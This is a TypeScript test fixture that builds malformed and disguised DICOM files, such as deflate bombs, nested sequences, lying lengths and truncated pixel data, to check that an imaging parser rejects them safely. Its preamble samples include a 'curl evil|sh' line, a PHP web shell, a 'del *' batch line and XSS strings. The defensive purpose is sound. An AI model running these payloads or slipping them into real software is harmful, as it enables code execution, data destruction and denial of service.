import { deflateRawSync } from 'node:zlib';
import { fixtureDicom } from '#lib/features/imaging/dicom-fixture.server.ts';
import { writeDicom, type DicomElement } from '#lib/features/imaging/dicom-writer.server.ts';
import type { ErrorCode } from '#lib/kernel/errors.ts';

export interface HostileFile {
  name: string;
  bytes: () => Uint8Array;
  code: ErrorCode;
}
type Make = () => Uint8Array;
const file = (code: ErrorCode, name: string, bytes: Make): HostileFile => ({ name, bytes, code });

const text = (value: string) => Buffer.from(value, 'latin1');
const syntax = {
  deflated: '1.2.840.10008.1.2.1.99',
  rle: '1.2.840.10008.1.2.5',
  baseline: '1.2.840.10008.1.2.4.50',
  lossless: '1.2.840.10008.1.2.4.70',
  jpegLs: '1.2.840.10008.1.2.4.80',
  jpeg2000: '1.2.840.10008.1.2.4.90',
  htj2k: '1.2.840.10008.1.2.4.201',
  mpeg4: '1.2.840.10008.1.2.4.102',
  little: '1.2.840.10008.1.2.1'
};

function u16(...values: number[]): Buffer {
  const out = Buffer.alloc(values.length * 2);
  values.forEach((value, i) => out.writeUInt16LE(value, i * 2));
  return out;
}
function u32(...values: number[]): Buffer {
  const out = Buffer.alloc(values.length * 4);
  values.forEach((value, i) => out.writeUInt32LE(value >>> 0, i * 4));
  return out;
}
/** One element, explicit little endian, its length as the author pleases. */
function element(tag: number, vr: string, length: number, body: Uint8Array = Buffer.alloc(0)): Buffer {
  const long = ['OB', 'OW', 'SQ', 'UN', 'UT', 'OF'].includes(vr);
  const head = [
    u16(tag >>> 16, tag & 0xffff),
    text(vr),
    long ? Buffer.concat([u16(0), u32(length)]) : u16(length)
  ];
  return Buffer.concat([...head, body]);
}
/** Preamble, prefix and group 2, and then nothing. */
const start = (transferSyntax = syntax.little) =>
  Buffer.from(writeDicom({ sopClassUid: '1.2.3', sopInstanceUid: '2.25.9', transferSyntax, elements: [] }));
const withBody = (body: Uint8Array, transferSyntax = syntax.little) =>
  Buffer.concat([start(transferSyntax), body]);
/** The fixture, its preamble filled. */
function preamble(content: Uint8Array): Uint8Array {
  const whole = fixtureDicom();
  whole.set(content.subarray(0, 128));
  return whole;
}
const set = (...elements: DicomElement[]) => fixtureDicom({ set: elements });
const dataSetOf = (whole: Uint8Array) => Buffer.from(whole).subarray(start().length);

/** The fixture with encapsulated pixels: items as given, without a delimiter where `open`. */
function encapsulated(
  transferSyntax: string,
  items: readonly Uint8Array[],
  more: { rows?: number; columns?: number; bits?: 8 | 16; frames?: number; open?: boolean; lie?: number } = {}
): Uint8Array {
  const { rows = 6, columns = 8, bits = 16, frames = 1 } = more;
  const head = fixtureDicom({
    transferSyntax,
    drop: ['7fe00010'],
    set: [
      ['00280010', 'US', rows],
      ['00280011', 'US', columns],
      ['00280100', 'US', bits],
      ['00280101', 'US', bits],
      ['00280102', 'US', bits - 1],
      ['00280008', 'IS', String(frames)]
    ]
  });
  const packed = items.map((item) =>
    Buffer.concat([u16(0xfffe, 0xe000), u32(more.lie ?? item.length), item])
  );
  const end = more.open ? [] : [u16(0xfffe, 0xe0dd), u32(0)];
  return Buffer.concat([head, element(0x7fe00010, 'OB', 0xffffffff), ...packed, ...end]);
}
const noTable = Buffer.alloc(0);

/** A JPEG's frame header alone, stating these sizes, and a scan without an end. */
function jpegHeader(kind: number, rows: number, columns: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16BE(rows, 0);
  size.writeUInt16BE(columns, 2);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xc4, 0, 20, 0, 1, ...Array<number>(15).fill(0), 0]),
    Buffer.from([0xff, kind, 0, 11, 16]),
    size,
    Buffer.from([1, 1, 0x11, 0]),
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 1, 0, 0, 0, 0])
  ]);
}

function nested(depth: number, length: number): Buffer {
  const one = Buffer.concat([element(0x00081115, 'SQ', length), u16(0xfffe, 0xe000), u32(length)]);
  return Buffer.concat(Array<Buffer>(depth).fill(one));
}
function deflatedBomb(): Uint8Array {
  const one = deflateRawSync(Buffer.alloc(400 * 1024 * 1024), { level: 9 });
  return withBody(one, syntax.deflated);
}
function manyElements(count: number): Buffer {
  const all = Buffer.alloc(count * 8, element(0x00110000, 'LO', 0));
  for (let i = 0; i < count; i++) {
    all.writeUInt16LE(0x11 + 2 * (i >> 16), i * 8);
    all.writeUInt16LE(i & 0xffff, i * 8 + 2);
  }
  return all;
}
const cut = (share: number) => {
  const whole = fixtureDicom();
  return whole.subarray(0, Math.floor(whole.length * share));
};
const shifted = (tag: number, vr: string, length: number, body?: Uint8Array) =>
  withBody(Buffer.concat([element(tag, vr, length, body), dataSetOf(fixtureDicom())]));

const preambles: [string, Uint8Array][] = [
  ['PE', text('MZ\x90\0\x03')],
  ['ELF', text('\x7fELF\x02\x01')],
  ['Mach-O', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7])],
  ['Mach-O for several processors', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0])],
  ['ZIP', text('PK\x03\x04\x14')],
  ['RAR', text('Rar!\x1a\x07\x01')],
  ['7z', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])],
  ['gzip', Buffer.from([0x1f, 0x8b, 8, 0])],
  ['an Office document', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
  ['PDF', text('%PDF-1.7\n')],
  ['PDF behind spaces', text(`${' '.repeat(60)}%PDF-1.4`)],
  ['HTML', text('<!DOCTYPE html><script>alert(1)</script>')],
  ['HTML in UTF-16', Buffer.from('\ufeff<html><body>', 'utf16le')],
  ['SVG', text('<svg onload="alert(1)">')],
  ['PHP', text('GIF89a<?php system($_GET[0]); ?>')],
  ['a shell script', text('#!/bin/sh\ncurl evil|sh\n')],
  ['a batch file', text('@echo off\r\ndel *\r\n')],
  ['WebAssembly', text('\0asm\x01\0\0\0')]
];

export const hostileDicom: HostileFile[] = [
  ...preambles.map(([name, bytes]) => file('file_disguised', `preamble of ${name}`, () => preamble(bytes))),
  file('file_disguised', 'a PDF header among the first elements', () =>
    withBody(Buffer.concat([element(0x00080008, 'CS', 8, text('%PDF-1.4')), dataSetOf(fixtureDicom())]))
  ),
  file('file_disguised', 'a ZIP behind the pixels', () =>
    Buffer.concat([fixtureDicom(), text('PK\x05\x06'), Buffer.alloc(16), u16(5), text('hello')])
  ),

  file('file_too_large', '65535 × 65535 pixels', () =>
    set(['00280010', 'US', 65535], ['00280011', 'US', 65535])
  ),
  file('file_too_large', 'a billion frames', () => set(['00280008', 'IS', '999999999'])),
  file('dicom_truncated', 'ten frames, the bytes of one', () => set(['00280008', 'IS', '10'])),
  file('dicom_truncated', '8000 × 8000 pixels, the bytes of 48', () =>
    set(['00280010', 'US', 8000], ['00280011', 'US', 8000])
  ),
  file('dicom_no_pixels', 'no rows', () => set(['00280010', 'US', 0])),
  file('dicom_no_pixels', 'no pixels', () => fixtureDicom({ drop: ['7fe00010'] })),
  file('file_disguised', 'an encapsulated PDF', () =>
    fixtureDicom({ drop: ['7fe00010'], set: [['00420011', 'OB', Buffer.alloc(2000, '%PDF-1.7 ')]] })
  ),
  file('dicom_unsupported', '32 bits', () => set(['00280100', 'US', 32])),
  file('dicom_unsupported', 'a photometric interpretation that is a script', () =>
    set(['00280004', 'CS', '<script>alert(1)</script>'])
  ),
  file('dicom_unsupported', 'four samples', () => set(['00280002', 'US', 4])),

  file('dicom_truncated', 'a length beyond the file', () => shifted(0x00080005, 'LO', 0xfffe)),
  file('dicom_truncated', 'a 32-bit length beyond the file', () => shifted(0x00080005, 'UN', 0x7ffffffe)),
  file('dicom_no_pixels', 'an undefined length where none may be', () =>
    shifted(0x00080005, 'OB', 0xffffffff)
  ),
  file('dicom_truncated', 'pixels that claim more bytes than there are', () => {
    const whole = Buffer.from(fixtureDicom());
    whole.writeUInt32LE(0xfffffff0, whole.length - 96 - 4);
    return whole;
  }),
  file('dicom_truncated', 'an element of group 2 longer than the file', () => {
    const whole = Buffer.from(fixtureDicom());
    whole.writeUInt32LE(0x7ffffff0, 152);
    return whole;
  }),
  file('dicom_truncated', '50,000 sequences in one another, undefined lengths', () =>
    withBody(nested(50_000, 0xffffffff))
  ),
  file('dicom_truncated', '50,000 sequences in one another, lengths that lie', () =>
    withBody(nested(50_000, 0x7ffffff0))
  ),
  file('dicom_no_pixels', 'a sequence that never ends', () =>
    withBody(
      Buffer.concat([element(0x00081115, 'SQ', 0xffffffff), Buffer.alloc(4000, u16(0xfffe, 0xe000, 0, 0))])
    )
  ),
  file('dicom_truncated', 'an item longer than its sequence and the file', () =>
    shifted(0x00081115, 'SQ', 8, Buffer.concat([u16(0xfffe, 0xe000), u32(0x7fffffff)]))
  ),
  file('dicom_truncated', 'a value representation nobody knows, at the end of the world', () =>
    shifted(0x00080005, '\u00ff\u00fe', 0xffff)
  ),
  file('image_not_read', 'three million elements', () => withBody(manyElements(3_000_000))),

  ...[0.02, 0.15, 0.3, 0.45, 0.6, 0.75, 0.9, 0.99].map((share) =>
    file(share < 0.2 ? 'file_not_an_image' : 'dicom_truncated', `cut at ${share * 100} %`, () => cut(share))
  ),

  file('file_too_large', 'a deflate bomb', deflatedBomb),
  file('dicom_truncated', 'deflated garbage', () => withBody(Buffer.alloc(5000, 0xa7), syntax.deflated)),

  file('dicom_unsupported', 'JPEG 2000 garbage', () =>
    encapsulated(syntax.jpeg2000, [noTable, Buffer.alloc(999, 7)])
  ),
  file('dicom_unsupported', 'JPEG-LS garbage', () =>
    encapsulated(syntax.jpegLs, [noTable, Buffer.alloc(999, 7)])
  ),
  file('dicom_unsupported', 'HTJ2K garbage', () =>
    encapsulated(syntax.htj2k, [noTable, Buffer.alloc(999, 7)])
  ),
  file('dicom_unsupported', 'a film', () => encapsulated(syntax.mpeg4, [noTable, Buffer.alloc(999, 7)])),
  file('dicom_unsupported', 'a transfer syntax that is a script', () =>
    fixtureDicom({ transferSyntax: '<script>' })
  ),
  file('dicom_truncated', 'JPEG garbage', () =>
    encapsulated(syntax.baseline, [noTable, Buffer.alloc(999, 7)], { bits: 8 })
  ),
  file('dicom_truncated', 'a JPEG of 65535 × 65535 in a frame of 6 × 8', () =>
    encapsulated(syntax.baseline, [noTable, jpegHeader(0xc0, 65535, 65535)], { bits: 8 })
  ),
  file('dicom_truncated', 'lossless JPEG garbage', () =>
    encapsulated(syntax.lossless, [noTable, Buffer.alloc(999, 0xff)])
  ),
  file('dicom_truncated', 'a lossless JPEG of 65535 × 65535 in a frame of 6 × 8', () =>
    encapsulated(syntax.lossless, [noTable, jpegHeader(0xc3, 65535, 65535)])
  ),
  file('dicom_truncated', 'a lossless JPEG of 8000 × 8000 that has no pixels', () =>
    encapsulated(syntax.lossless, [noTable, jpegHeader(0xc3, 8000, 8000)], { rows: 8000, columns: 8000 })
  ),
  file('dicom_truncated', 'RLE garbage', () => encapsulated(syntax.rle, [noTable, Buffer.alloc(999, 0xee)])),
  file('dicom_truncated', 'RLE segments that begin before the frame', () =>
    encapsulated(syntax.rle, [noTable, Buffer.concat([u32(2, 4, 0xfffffff0), Buffer.alloc(200)])])
  ),
  file('dicom_truncated', 'RLE of 8000 × 8000 that says nothing', () =>
    encapsulated(syntax.rle, [noTable, Buffer.concat([u32(2, 64, 66), Buffer.alloc(60, 0x80)])], {
      rows: 8000,
      columns: 8000
    })
  ),
  file('dicom_truncated', 'fragments longer than the file', () =>
    encapsulated(syntax.rle, [noTable, Buffer.alloc(70)], { lie: 0x7ffffff0 })
  ),
  file('dicom_truncated', 'fragments without an end', () =>
    encapsulated(syntax.rle, [noTable, Buffer.alloc(70)], { open: true })
  ),
  file('dicom_truncated', 'a million empty fragments', () =>
    encapsulated(syntax.rle, [noTable, ...Array<Buffer>(1_000_000).fill(noTable)])
  ),
  file('dicom_no_pixels', 'a frame that begins where it ends', () =>
    encapsulated(syntax.rle, [u32(0, 0), Buffer.alloc(70), Buffer.alloc(70)], { frames: 2 })
  ),
  file('dicom_truncated', 'an offset table for other frames than there are', () =>
    encapsulated(syntax.rle, [u32(0, 78, 4), Buffer.alloc(70)], { frames: 900 })
  ),
  file('dicom_truncated', 'nine hundred frames in one fragment', () =>
    encapsulated(syntax.rle, [noTable, Buffer.alloc(70)], { frames: 900 })
  )
];
